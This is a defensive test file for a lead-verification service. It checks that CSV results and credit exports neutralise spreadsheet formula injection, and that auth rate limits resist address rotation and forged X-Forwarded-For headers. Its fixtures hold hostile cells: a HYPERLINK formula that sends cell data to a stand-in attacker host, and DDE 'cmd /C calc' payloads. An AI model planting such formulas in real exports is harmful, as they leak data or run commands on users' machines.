/**
 * Abuse beyond the upload path: CSV formula injection in every cell we write (the results file and the
 * credit transactions export), and the built-in auth server's rate limits on sign-in and on resending the
 * confirmation e-mail, which must hold against an attacker who rotates addresses, their spelling, or a
 * forged X-Forwarded-For header.
 */
import { randomBytes } from 'node:crypto';
import { startsFormula, unguardCell } from '@leadproof/engine';
import { Leadproof } from '@leadproof/sdk/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RATE_WINDOW_SECONDS } from '../../embedded/auth/builtin-auth';
import type { DevOutbox } from '../../embedded/mail/dev-outbox';
import { tempFile } from '../../testing/csv-fixtures';
import { parseCsv } from '../../testing/parse-csv';
import { inOneRateWindow } from '../../testing/rate-window';
import { startTestServer, type TestServer } from '../../testing/start-test-server';
import { singleDatabaseKinds } from '../../testing/test-databases';
import { authedFetch, createTestUser, type TestUser } from '../../testing/test-users';

const PER_IP = 6;
const PER_EMAIL = 3;

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Click")';
const HEADER_HYPERLINK = '=HYPERLINK("http://evil.example/h","header")';

/** Quotes a cell as RFC 4180 does when it holds a quote, comma or line break. */
const quote = (cell: string) => (/[",\r\n\t]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
const csv = (rows: string[][]) => `${rows.map((row) => row.map(quote).join(',')).join('\r\n')}\r\n`;

/**
 * A list whose header and every column carry a formula, among contacts the engine can verify, and numbers
 * and phones as typed that must come back byte for byte (docs/results-format.md, "Formula injection").
 */
const HOSTILE_CSV = csv([
  ['first_name', 'last_name', 'email', 'phone', 'company', 'title', 'city', HEADER_HYPERLINK],
  [
    HYPERLINK,
    '+SUM(1+1)',
    'ann@example.com',
    '+1 415 555 0100',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '\t=1+1',
    'x',
  ],
  ['\r=1+1', 'Normal', 'bob@example.com', '415 555 0101', 'Acme', "=cmd|'/C calc'!A0", 'Paris', '=1+1'],
  ['Cy', '-Dash', '=1+2@example.com', '@415 555 0102', '+Plus Inc', '-', '@', '+'],
  [
    '+44 20 7946 0958',
    '-7.5',
    'dee@example.com',
    '+1 8028323153 (office)\t',
    '\u{ff1d}1+1',
    '\n=1+1',
    '-2+3',
    '+42',
  ],
]);
/**
 * The cells of HOSTILE_CSV that start like a formula but call nothing and reach nothing (at most arithmetic, or
 * a phone with its note): written exactly as they are.
 */
const AS_TYPED = [
  '+1 415 555 0100',
  '+44 20 7946 0958',
  '-7.5',
  '+1 8028323153 (office)\t',
  '+42',
  '-Dash',
  '+Plus Inc',
  '-2+3',
];

describe.each(singleDatabaseKinds)('abuse on %s', (kind) => {
  let server: TestServer;
  let user: TestUser;
  let anonKey: string;

  beforeAll(async () => {
    server = await startTestServer(kind, {
      AUTH_RATE_LIMIT_PER_IP: String(PER_IP),
      AUTH_RATE_LIMIT_PER_EMAIL: String(PER_EMAIL),
      AUTH_EMAIL_INTERVAL_SECONDS: '0',
    });
    user = await createTestUser(server);
    anonKey = ((await (await fetch(`${server.url}/config.json`)).json()) as { supabaseAnonKey: string })
      .supabaseAnonKey;
  });

  afterAll(async () => {
    await server?.dispose();
  });

  /** Every cell a spreadsheet would run as a formula, with where it is. */
  const formulaCells = (text: string) =>
    parseCsv(text).flatMap((row, r) =>
      row.flatMap((cell, c) =>
        startsFormula(cell) ? [`row ${r + 1}, column ${c + 1}: ${JSON.stringify(cell)}`] : [],
      ),
    );

  describe('CSV formula injection', () => {
    it('neutralises every formula cell of the results file, full and previewed, in a way that undoes exactly', async () => {
      // The input is hostile in every column, the header included.
      expect(formulaCells(HOSTILE_CSV).length).toBeGreaterThanOrEqual(14);
      const client = new Leadproof({
        baseURL: server.url,
        accessToken: () => user.accessToken,
        maxRetries: 0,
      });
      const order = await client.uploadCsv(await tempFile('hostile.csv', HOSTILE_CSV));
      const done = await client.waitForOrder(order.id, { intervalMs: 200 });
      expect(done.status).toBe('completed');

      for (const query of ['', '?limit=1']) {
        const response = await authedFetch(server, user, `/api/orders/${order.id}/csv/results${query}`);
        expect(response.status).toBe(200);
        const text = await response.text();
        expect(formulaCells(text), `results${query}`).toEqual([]);
        const [header, first, ...rest] = parseCsv(text) as [string[], string[], ...string[][]];
        expect(header).toContain(`'${HEADER_HYPERLINK}`);
        expect(first).toContain(`'${HYPERLINK}`);
        // Programs reading the file undo the guard with one rule and get the input back.
        const input = parseCsv(HOSTILE_CSV).slice(1);
        for (const [i, row] of [first, ...rest].entries()) {
          expect(row.slice(0, 8).map(unguardCell)).toEqual(input[i]);
        }
        // Numbers, phones with notes and inert text are not guarded at all, in the input columns and in E.164.
        expect(first[3]).toBe('+1 415 555 0100');
        expect(first[header.indexOf('lp_phone_e164')]).toBe('+14155550100');
        if (query === '') {
          expect(rest).toHaveLength(3);
          for (const cell of AS_TYPED) expect(rest.flat().concat(first), cell).toContain(cell);
        }
      }
    });

    it('neutralises formula text in the credit transactions export, keeping plain amounts as numbers', async () => {
      // Descriptions are written by the server (plan names, order ids), so the ledger is seeded directly
      // with what a hostile plan name or a future free-text reason could carry.
      const hostile = [
        HYPERLINK,
        '+SUM(1)',
        "-1+cmd|' /C calc'!A0",
        '@SUM(A1)',
        '\t=1+1',
        '\r=1+1',
        '\n=1+1',
        '\u{ff1d}1+1',
      ];
      const expiresAt = new Date(Date.now() + 24 * 3600 * 1000);
      for (const description of hostile) {
        await server.services.creditLedger.credit({
          userId: user.id,
          amount: 1,
          reason: 'adjustment',
          description,
          expiresAt,
          idempotencyKey: `abuse-${randomBytes(6).toString('hex')}`,
        });
      }
      await server.services.creditLedger.debit({
        userId: user.id,
        amount: 2.5,
        reason: 'adjustment',
        description: '=1-2',
        idempotencyKey: `abuse-${randomBytes(6).toString('hex')}`,
      });

      const response = await authedFetch(server, user, '/api/credit-transactions/export');
      expect(response.status).toBe(200);
      const text = await response.text();
      const rows = parseCsv(text);
      expect(rows.flat().filter(startsFormula)).toEqual([]);
      const descriptions = rows.slice(1).map((row) => row[3]);
      for (const description of [...hostile, '=1-2']) expect(descriptions).toContain(`'${description}`);
      expect(rows.slice(1).map((row) => row[1])).toContain('-2.5');
    });
  });

  describe('auth rate limits', () => {
    const authPost = (pathname: string, body: unknown, headers: Record<string, string> = {}) =>
      fetch(`${server.url}/auth/v1${pathname}`, {
        method: 'POST',
        headers: { apikey: anonKey, 'content-type': 'application/json', ...headers },
        body: JSON.stringify(body),
      });
    const signIn = (email: string, headers?: Record<string, string>) =>
      authPost('/token?grant_type=password', { email, password: 'wrong-password' }, headers);
    const resend = (email: string) => authPost('/resend', { type: 'signup', email });

    async function expectLimited(response: Response, label: string) {
      const body = await response.text();
      expect(response.status, `${label}: ${body}`).toBe(429);
      const retryAfter = Number(response.headers.get('retry-after'));
      expect(retryAfter, label).toBeGreaterThan(0);
      expect(retryAfter, label).toBeLessThanOrEqual(RATE_WINDOW_SECONDS);
      expect(JSON.parse(body), label).toMatchObject({ code: 'over_request_rate_limit' });
    }

    it(`refuses sign-in attempt ${PER_IP + 1} from one address, whatever e-mail and X-Forwarded-For it sends`, async () => {
      await inOneRateWindow(server.services.database, async () => {
        for (let i = 0; i < PER_IP; i++) {
          // TRUST_PROXY is off: a client cannot pick its own address with this header.
          const response = await signIn(`guess-${i}@example.com`, {
            'x-forwarded-for': `198.51.100.${i + 1}`,
          });
          expect(response.status, `attempt ${i + 1}`).toBe(400);
        }
        await expectLimited(
          await signIn('guess-last@example.com', { 'x-forwarded-for': '203.0.113.99' }),
          `attempt ${PER_IP + 1}`,
        );
      });
    });

    it(`refuses sign-in attempt ${PER_EMAIL + 1} for one account, however its address is spelt`, async () => {
      await inOneRateWindow(server.services.database, async () => {
        for (const spelling of ['Target@Example.com', '  target@example.com  ', 'TARGET@EXAMPLE.COM']) {
          expect((await signIn(spelling)).status, spelling).toBe(400);
        }
        await expectLimited(await signIn('target@example.com'), `attempt ${PER_EMAIL + 1}`);
        // Another account still signs in from the same address: the limit is per account, not a lockout.
        expect(
          (await authPost('/token?grant_type=password', { email: user.email, password: user.password }))
            .status,
        ).toBe(200);
      });
    });

    it(`sends at most ${PER_EMAIL} confirmation e-mails to one address per window, then 429 with Retry-After`, async () => {
      const email = `unconfirmed-${randomBytes(4).toString('hex')}@example.com`;
      expect((await authPost('/signup', { email, password: 'a-good-password' })).status).toBe(200);
      const outbox = server.services.mailer as DevOutbox;
      const mailsTo = async () => (await outbox.list()).filter((mail) => mail.to === email).length;

      await inOneRateWindow(server.services.database, async () => {
        const before = await mailsTo();
        for (let i = 0; i < PER_EMAIL; i++) expect((await resend(email)).status, `resend ${i + 1}`).toBe(200);
        expect(await mailsTo()).toBe(before + PER_EMAIL);
        await expectLimited(await resend(email.toUpperCase()), `resend ${PER_EMAIL + 1}`);
        expect(await mailsTo()).toBe(before + PER_EMAIL);
      });
    });

    it('limits resends to an unknown address the same way, so the limit does not reveal who has an account', async () => {
      await inOneRateWindow(server.services.database, async () => {
        const unknown = `nobody-${randomBytes(4).toString('hex')}@example.com`;
        for (let i = 0; i < PER_EMAIL; i++)
          expect((await resend(unknown)).status, `resend ${i + 1}`).toBe(200);
        await expectLimited(await resend(unknown), `resend ${PER_EMAIL + 1}`);
      });
    });
  });
});
